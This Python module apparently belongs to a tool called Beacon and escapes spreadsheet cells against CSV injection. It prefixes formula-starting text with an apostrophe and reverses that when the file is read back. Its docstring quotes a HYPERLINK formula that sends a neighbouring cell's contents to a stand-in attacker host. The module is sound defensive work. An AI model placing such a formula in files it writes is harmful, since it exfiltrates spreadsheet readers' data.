"""Text cells a spreadsheet never runs as a formula, and the exact text back when Beacon reads them.

Why: a CSV file or workbook Beacon writes is opened in Excel, LibreOffice or Google Sheets, and a
cell whose text starts with ``=`` (or with a character a spreadsheet also reads as the start of a
formula) would run there: a control titled ``=HYPERLINK("http://evil.example/?d="&B2,"Open")``
would reach a reader's workbook as a live link carrying the next cell ("CSV injection", OWASP).
The same files are read back by ``beacon import`` and the return upload, and must give back
exactly the text that was written.

The rule, one for every file Beacon writes (bundles, return templates, open data); a CSV cell
holds the written text, a workbook cell as below:

* A text is **escaped** with one leading apostrophe (``'``) when, after any apostrophes it already
  starts with, its first character is one of ``FORMULA_STARTS``: ``=``, ``+``, ``-``, ``@``, a tab,
  a carriage return, or the full-width ``＝``, ``＋``, ``－``, ``＠`` (which some spreadsheets take
  as their ASCII forms). So ``=Head of Audit`` is written ``'=Head of Audit``, and ``'=x`` (a text
  that already starts with an apostrophe) is written ``''=x``.
* **Numbers stay numbers**: a plain decimal number, ``-5``, ``-0.25`` (an optional minus, digits,
  an optional point and digits), is written as it is. It runs nothing, and a negative figure in a
  numeric column stays a number for the spreadsheet.
* Every other text is written as it is.
* **Reading** takes one apostrophe off a text that the rule would have escaped (one that, after its
  leading apostrophes, starts with a formula character and is not a plain number), and leaves every
  other text alone. Because whether a text is escaped depends only on what follows its leading
  apostrophes, reading undoes writing exactly for every text: ``from_formula_safe(formula_safe(t))
  == t``. A person who types ``'=x`` in a file gets ``=x``, as a spreadsheet shows it.

In a workbook a text is a string cell, never a formula cell, so it needs no apostrophe to stay
text: it is stored as it is (:func:`workbook_text`), and a cell the rule escapes is also marked as
text the way Excel marks a value typed with a leading apostrophe (the cell's "quote prefix"), so
it stays text when someone edits it; ``beacon.bundle.writer.text_cell`` does this. Only a text
that itself starts with an apostrophe before a formula character (``'=x``) is escaped there too
(``''=x``), so that reading a workbook can take one apostrophe off as reading a CSV file does: a
workbook made by opening the CSV file in a program that keeps the apostrophe reads back the same.
"""

from __future__ import annotations

import re

__all__ = ["APOSTROPHE", "FORMULA_STARTS", "formula_safe", "from_formula_safe", "needs_escape", "workbook_text"]

APOSTROPHE = "'"
# = + - @, tab, carriage return, and the full-width = + - @ (U+FF1D, U+FF0B, U+FF0D, U+FF20)
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def needs_escape(text: str) -> bool:
    """Whether ``text`` is written with a leading apostrophe: after its own leading apostrophes it
    starts with a formula character, and it is not a plain number such as ``-5``."""
    bare = text.lstrip(APOSTROPHE)
    return bool(bare) and bare[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(bare)


def formula_safe(text: str) -> str:
    """``text`` as a cell a spreadsheet shows as text: one apostrophe before it when it could
    start a formula (the rule above); every other text unchanged."""
    return APOSTROPHE + text if needs_escape(text) else text


def from_formula_safe(text: str) -> str:
    """The text a cell written by :func:`formula_safe` holds: one leading apostrophe taken off a
    text the rule escapes; every other text unchanged."""
    return text[1:] if text.startswith(APOSTROPHE) and needs_escape(text) else text


def workbook_text(text: str) -> str:
    """``text`` as a workbook's string cell holds it: as it is (a string cell is never run), except
    that a text starting with an apostrophe is escaped as in CSV, so that :func:`from_formula_safe`
    gives every text back exactly from a workbook too."""
    return formula_safe(text) if text.startswith(APOSTROPHE) else text
